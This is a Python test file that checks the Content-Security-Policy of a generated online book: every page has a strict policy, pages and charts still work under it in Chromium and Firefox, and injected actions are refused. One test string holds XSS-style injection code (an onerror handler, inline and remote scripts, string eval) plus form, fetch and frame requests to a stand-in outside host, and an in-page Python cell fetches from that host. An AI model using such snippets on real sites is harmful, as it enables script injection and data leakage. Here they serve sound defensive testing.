"""The content security policy: every page has one, it holds, and everything works under it."""

import zipfile

import pytest
from lxml import html as lxml_html

from book.downloads import pack
from book.theme import policy
from tests import browser
from tests.waiting import until

CHAPTER = "chapters/02_region"
ELSEWHERE = "https://elsewhere.example"
# What the policy of a page refuses, noted from the start.
NOTE = """document.addEventListener("securitypolicyviolation", (event) =>
  (globalThis.refused ??= []).push(event.effectiveDirective))"""
REFUSED = "globalThis.refused ?? []"


def read_policy(text):
    """Read the policy of a page as its sources by directive."""
    tree = lxml_html.document_fromstring(text)
    (content,) = tree.xpath("//head/meta[@http-equiv='Content-Security-Policy']/@content")
    assert tree.xpath(
        "boolean(//head/*[self::script or self::link][1]/preceding-sibling::meta[@http-equiv])"
    )
    return {kind: sources for kind, *sources in map(str.split, content.split(";"))}


def test_every_published_page_has_a_policy_that_admits_its_scripts_and_no_text_as_code():
    pages = sorted(browser.HTML.rglob("*.html"))
    assert len(pages) > 60
    for path in pages:
        text = path.read_text(encoding="utf-8")
        found = read_policy(text)
        scripts = found["script-src"]
        assert {"'unsafe-inline'", "'unsafe-eval'", "*", "https:"}.isdisjoint(scripts), path
        assert found["base-uri"] == ["'none'"], path
        assert found.get("object-src", found["default-src"]) == ["'none'"], path
        assert not [source for kind in found.values() for source in kind if "://" in source], path
        tree = lxml_html.document_fromstring(text)
        inline = tree.xpath("//script[not(@src) and not(contains(@type, 'json'))]")
        assert {policy.hash_script(script.text) for script in inline} <= {*scripts}, path
        assert tree.xpath("//@*[starts-with(name(), 'on')]") == [], path
        assert tree.xpath("//@href[starts-with(., 'javascript:')]") == [], path


@pytest.mark.parametrize("fragment", ["%", "100%", "%E4%B8", "%00"])
def test_a_malformed_fragment_stops_nothing(at_desk, home, fragment):
    visit = browser.open_page(at_desk, home, f"chapters/02_region.html#{fragment}")
    # Of the scripts that follow in the same file.
    label = visit.page.locator(".theme-switch-button").first.get_attribute("aria-label")
    assert label.startswith("Colour mode: ") and visit.errors == []


MISDEEDS = """(elsewhere) => {
  const put = (text) => document.querySelector("main").insertAdjacentHTML("beforeend", text);
  put(`<img src="${elsewhere}/a.png" onerror="globalThis.ran = 1">`
    + `<iframe src="${elsewhere}"></iframe>`);
  put(`<form id="sent" action="${elsewhere}"></form>`);
  put(`<object data="${elsewhere}/a.svg" type="image/svg+xml"></object>`);
  const run = (script) => document.head.append(
    Object.assign(document.createElement("script"), script));
  run({ textContent: "globalThis.ran = 2" });
  run({ src: `${elsewhere}/a.js` });
  setTimeout("globalThis.ran = 3");
  fetch(elsewhere).catch(() => {});
  document.querySelector("#sent").submit();
}"""


def test_the_policy_refuses_what_a_page_should_not_do(at_desk, home):
    visit = browser.open_page(at_desk, home, f"{CHAPTER}.html")
    visit.page.evaluate(NOTE)
    visit.page.evaluate(MISDEEDS, ELSEWHERE)
    refused = {"img-src", "frame-src", "form-action", "object-src", "connect-src"}
    refused |= {"script-src", "script-src-elem", "script-src-attr"}
    until(lambda: refused <= {*visit.page.evaluate(REFUSED)}, "all is refused", 30)
    assert visit.page.evaluate("globalThis.ran") is None


def test_the_pages_python_is_under_the_policy_too(at_desk, lab_home):
    """A worker from an address of its own would fetch from anywhere."""
    visit = browser.open_lab(at_desk, lab_home, CHAPTER)
    code = f"import js; asked = js.fetch('{ELSEWHERE}/taken').catch(lambda _: None); 'asked'"
    run = "async (code) => (await globalThis.liveCells.run(code)).value"
    assert visit.page.evaluate(run, code) == "asked"
    # A second run begins when the request is over or refused.
    assert visit.page.evaluate(run, "1 + 1") == 2
    visit.page.wait_for_timeout(1000)
    assert visit.foreign == []


def open_places(visit, home):
    """Go where each feature works that runs, loads or sends something; yields what is at fault."""
    page = visit.page
    for name in (
        "index.html",
        f"{CHAPTER}.html",
        "exercises/pages/02_region.html",
        "pages/ledger.html",
    ):
        page.goto(f"{home}/{name}")
        yield name, visit.find_charts_not_drawn()
    embed = next((browser.HTML / "_static" / "embeds").glob("*.html")).name
    page.goto(f"{home}/_static/embeds/{embed}")
    yield embed, visit.find_charts_not_drawn()
    page.goto(f"{home}/pages/search.html?q=C80")
    page.locator(".search-results ul a").first.wait_for(timeout=60_000)
    yield "search", []


def test_pages_work_under_it_with_an_empty_console(at_desk, home):
    visit = browser.open_page(at_desk, home, "index.html")
    for place, charts in open_places(visit, home):
        assert (charts, visit.errors, visit.foreign) == ([], [], []), place


def test_the_button_for_printing_prints(at_desk, home):
    page = browser.open_page(at_desk, home, f"{CHAPTER}.html").page
    page.evaluate("globalThis.print = () => { document.title = 'printed'; }")
    page.locator("[data-print]").evaluate("button => button.click()")
    assert page.title() == "printed"


def work_in_firefox(page, home):
    """Draw a chart, run a cell and search, in a browser that says nothing of its console."""
    page.goto(f"{home}/{CHAPTER}.html")
    page.evaluate("document.dispatchEvent(new Event('pointermove', { bubbles: true }))")
    page.evaluate("document.querySelector('.chart:not(.still)').scrollIntoView()")
    drawn = "document.querySelectorAll('.chart.is-live .chart-live svg path').length"
    until(lambda: page.evaluate(drawn), "a chart is drawn in Firefox", 60)
    page.evaluate("document.querySelector('.cell .lab-run').click()")
    said = "[...document.querySelectorAll('.lab-said')].map((said) => said.textContent).join('')"
    until(lambda: "Done." in page.evaluate(said), "a cell ran in Firefox")
    page.goto(f"{home}/pages/search.html?q=C80")
    found = "document.querySelectorAll('.search-results ul a').length"
    until(lambda: page.evaluate(found), "the search finds in Firefox", 60)


def test_pages_work_under_it_in_firefox(firefox, lab_home):
    work_in_firefox(firefox, lab_home)


def test_a_folder_works_under_it_in_firefox(firefox, html, tmp_path):
    with zipfile.ZipFile(pack.pack(html, tmp_path / "book.zip")) as bundle:
        bundle.extractall(tmp_path)
    work_in_firefox(firefox, (tmp_path / "book").as_uri())
